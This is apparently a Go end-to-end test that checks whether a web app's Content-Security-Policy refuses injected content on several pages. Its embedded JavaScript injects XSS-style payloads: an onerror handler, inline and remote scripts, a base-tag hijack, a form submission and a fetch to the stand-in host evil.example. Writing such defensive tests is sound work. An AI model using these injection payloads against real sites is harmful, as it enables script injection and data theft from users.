package e2e

import (
	"slices"
	"strings"
	"testing"
)

// intrusion writes into a page what somebody from outside might, tells what ran of it, and which
// rules of the Content-Security-Policy said no.
const intrusion = `new Promise(done => {
	const refused = new Set()
	addEventListener('securitypolicyviolation', e => refused.add(e.effectiveDirective))
	const at = document.createElement('div')
	document.body.append(at)
	at.innerHTML = '<img src="/static/none.png" onerror="window.ran = \'a handler\'"><p style="color: red">x</p><iframe src="/"></iframe><object data="/"></object>' +
		'<img src="https://evil.example/x.png"><link rel="stylesheet" href="https://evil.example/x.css">'
	for (const set of [s => { s.textContent = 'window.ran = "a script"' }, s => { s.src = 'https://evil.example/x.js' }]) {
		const s = document.createElement('script')
		set(s)
		at.append(s)
	}
	fetch('https://evil.example/').catch(() => {})
	const base = document.createElement('base')
	base.href = 'https://evil.example/'
	document.head.append(base)
	const form = document.createElement('form')
	form.action = 'https://evil.example/'
	at.append(form)
	form.submit()
	try { setTimeout('window.ran = "a text"', 0) } catch {}
	setTimeout(() => done({ Ran: window.ran ?? '', Base: document.baseURI, Refused: [...refused] }), 500)
})`

// ways are the directives that have to refuse something of what gets into a page.
var ways = []string{"script-src-attr", "script-src-elem", "style-src-attr", "style-src-elem", "img-src", "connect-src", "frame-src", "object-src", "base-uri", "form-action"}

// walls is E7: what gets into a page from outside does not run, and reaches nobody.
func walls(t *testing.T, s *suite, on screen) {
	demo := s.demo(t)
	p := demo.signedIn("owner", on)
	_, clients := p.eachStatus()
	p.underAttack()
	for _, address := range []string{studio, studio + "/invoices?new=1", studio + "/connect", "/workspaces", clients["Open"], studio + "/nowhere"} {
		p.to(address)
		var got struct {
			Ran, Base string
			Refused   []string
		}
		within(t, address+": each way in is refused", func() bool { // a busy browser tells of some late
			got = eval[struct {
				Ran, Base string
				Refused   []string
			}](p, intrusion)
			return got.Ran != "" || !slices.ContainsFunc(ways, func(want string) bool { return !slices.Contains(got.Refused, want) })
		})
		if got.Ran != "" {
			t.Errorf("%s: %s ran", address, got.Ran)
		}
		if !strings.HasPrefix(got.Base, p.site.url) {
			t.Errorf("%s: its addresses begin with %s now", address, got.Base)
		}
	}
}
